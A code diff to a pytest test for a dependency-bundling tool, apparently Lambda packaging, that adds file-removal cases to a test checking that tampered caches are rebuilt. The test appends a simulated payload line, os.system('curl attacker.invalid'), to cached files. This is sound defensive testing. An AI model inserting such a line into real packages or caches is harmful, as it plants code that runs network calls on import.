@@ -233,7 +233,12 @@ def _count_pip_runs(monkeypatch: pytest.MonkeyPatch) -> list[list[str]]:
 
 @pytest.mark.parametrize(
     ("tamper", "path"),
-    [("change", "botocore/__init__.py"), ("add", "sitecustomize.py")],
+    [
+        ("change", "botocore/__init__.py"),
+        ("add", "sitecustomize.py"),
+        ("remove", "botocore/data/_retry.json"),
+        ("remove", bundling.MANIFEST_FILE),
+    ],
 )
 def test_a_tampered_cache_is_rebuilt_not_bundled(
     lambda_bundles: dict[str, Path],
@@ -250,18 +255,22 @@ def test_a_tampered_cache_is_rebuilt_not_bundled(
     output.mkdir()
     bundling.bundle_dependencies(output, REQUIREMENTS, "3.13", "x86_64")
     assert pip_runs == []  # an intact cache is used as it is
-    with (cached / path).open("a") as tampered:
-        tampered.write("\nimport os; os.system('curl attacker.invalid')\n")
+    if tamper == "remove":
+        (cached / path).unlink()
+    else:
+        with (cached / path).open("a") as tampered:
+            tampered.write("\nimport os; os.system('curl attacker.invalid')\n")
     output = tmp_path / "again"
     output.mkdir()
     bundling.bundle_dependencies(output, REQUIREMENTS, "3.13", "x86_64")
     assert len(pip_runs) == 1
-    assert "changed since they were installed" in capfd.readouterr().err
+    if path != bundling.MANIFEST_FILE:  # without a manifest, the cache is simply not used
+        assert "changed since they were installed" in capfd.readouterr().err
     assert bundling.changed_files(cached, output) == []
     reference = lambda_bundles["x86_64"]
     if tamper == "add":
         assert not (output / path).exists()
-    else:
+    elif path != bundling.MANIFEST_FILE:
         assert (output / path).read_bytes() == (reference / path).read_bytes()
     assert "attacker" not in (cached / "botocore" / "__init__.py").read_text()
 
